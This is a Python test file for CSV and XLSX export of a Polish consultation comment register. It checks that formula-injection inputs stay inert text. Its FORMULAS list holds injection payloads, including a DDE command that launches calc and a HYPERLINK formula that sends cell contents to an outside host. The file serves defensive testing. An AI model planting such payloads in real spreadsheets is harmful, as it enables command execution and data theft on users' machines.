"""The table of comments opens in an office program as texts and dates, and nothing in it runs."""

import csv
import io
import tracemalloc
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook

from consult.responses.tables import COLUMNS, MAX_CELL_CHARACTERS, csv_cell, looks_like_formula, to_csv, to_xlsx, xlsx_bytes

ROW = {
    "position": 1, "received_on": date(2026, 4, 14), "number": "KN/7", "source_number": None, "channel": "Ustnie", "sender": "Osoba fizyczna",
    "passage": "§ 3 ust. 2", "body": "Zażółć gęślą jaźń;\n\"w cudzysłowie\"", "outcome": "Uwzględniona", "decided_on": date(2026, 5, 2),
}
FORMULAS = [
    "=1+1", "+48 32 000", "-2", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1", "\u200b=1", "\ufeff=1+1", "\x00=1", "'=1+1", '"=1+1', ";=1+1",
    '";=1+1', "＝1+1", "tekst\n=1+1", "tekst\r\n@A1", '=HYPERLINK("http://a.example/?"&A1,"x")', "=cmd|' /C calc'!A0", "a;=1+1", 'a,"=1+1', "a\t=1+1",
]
STARTS = tuple("=+-@＝＋－＠")


def csv_rows(rows, **options):
    text = b"".join(to_csv(rows, **options)).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


def sheet_of(rows, **options):
    return load_workbook(io.BytesIO(xlsx_bytes(rows, title="Wykaz uwag: [2026/1]", **options))).active


def test_csv_carries_headings_dates_and_polish_letters():
    heading, row = csv_rows([ROW])
    assert heading == [column.heading for column in COLUMNS]
    assert row[:8] == ["1", "2026-04-14", "KN/7", "", "Ustnie", "Osoba fizyczna", "§ 3 ust. 2", ROW["body"]]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_csv_cell_starts_a_formula_however_it_is_split(text):
    (_, row) = csv_rows([{"body": text}])
    cell = row[7]
    for separator in "\0;,\n":
        for part in cell.split(separator):
            bare = part.lstrip(' \t\r\n"\u00a0\u200b\ufeff') if separator == "\0" else part.lstrip('"')
            assert not bare.startswith(STARTS), (separator, part)


@pytest.mark.parametrize("text", FORMULAS)
def test_no_xlsx_cell_is_a_formula_and_its_text_is_whole(text):
    cell = sheet_of([{"body": text}])["H2"]
    assert cell.data_type == "s"
    assert cell.quotePrefix or not looks_like_formula(cell.value)
    assert cell.value.endswith(text.strip("\x00\ufeff").replace("\r\n", "\n").replace("\r", "\n").replace("\t", " ").split("\n")[-1])


def test_error_codes_and_numbers_in_words_stay_texts():
    sheet = sheet_of([{"body": "#N/A", "sender": "00123", "passage": "1e5"}])
    assert [(sheet[place].value, sheet[place].data_type) for place in ("H2", "F2", "G2")] == [("#N/A", "s"), ("00123", "s"), ("1e5", "s")]


def test_xlsx_has_dates_a_frozen_heading_and_a_filter():
    sheet = sheet_of([ROW])
    assert sheet["B2"].value.date() == date(2026, 4, 14) and sheet["B2"].is_date
    assert sheet["A2"].value == 1 and sheet["H2"].value == ROW["body"]
    assert [cell.value for cell in sheet[1]] == [column.heading for column in COLUMNS]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:O2" and sheet.title == "Wykaz uwag   2026 1"
    assert sheet.print_title_rows == "$1:$1"


def test_sample_data_is_said_on_the_first_line():
    assert csv_rows([ROW], notice="dane przykładowe")[0] == ["dane przykładowe"]
    sheet = sheet_of([ROW], notice="dane przykładowe")
    assert sheet["A1"].value == "dane przykładowe" and sheet["A2"].value == "Lp." and sheet.freeze_panes == "A3"


def test_control_characters_and_surrogates_are_gone():
    text = "a\x00b\x1bc\x85d\ud800e\ufefff\uffff"
    assert csv_cell(text) == "abcdef"
    assert sheet_of([{"body": text}])["H2"].value == "abcdef"


def test_a_text_longer_than_a_cell_says_that_it_was_shortened():
    value = sheet_of([{"body": "ż" * 50_000}])["H2"].value
    assert len(value) == MAX_CELL_CHARACTERS and value.endswith("[…]")


def test_times_lose_their_zone_and_truth_is_a_word():
    sheet = sheet_of([{"decided_on": datetime(2026, 5, 2, 12, 30, tzinfo=UTC), "group": True}])
    assert str(sheet["M2"].value) == "2026-05-02 12:30:00" and sheet["N2"].value == "tak"
    assert csv_cell(datetime(2026, 5, 2, 12, 30, tzinfo=UTC)) == "2026-05-02 12:30" and csv_cell(None) == "" and csv_cell(-3) == "-3"


def test_a_long_register_is_written_in_constant_memory(tmp_path):
    def rows(count):
        return ({**ROW, "position": number, "body": f"Uwaga numer {number}. " * 10} for number in range(count))

    peaks = []
    for count in (200, 2000):
        tracemalloc.start()
        to_xlsx(tmp_path / "register.xlsx", rows(count), title="Wykaz")
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
    assert peaks[1] < peaks[0] + 400_000
    assert sum(len(line) for line in to_csv(rows(11_081))) > 1_000_000
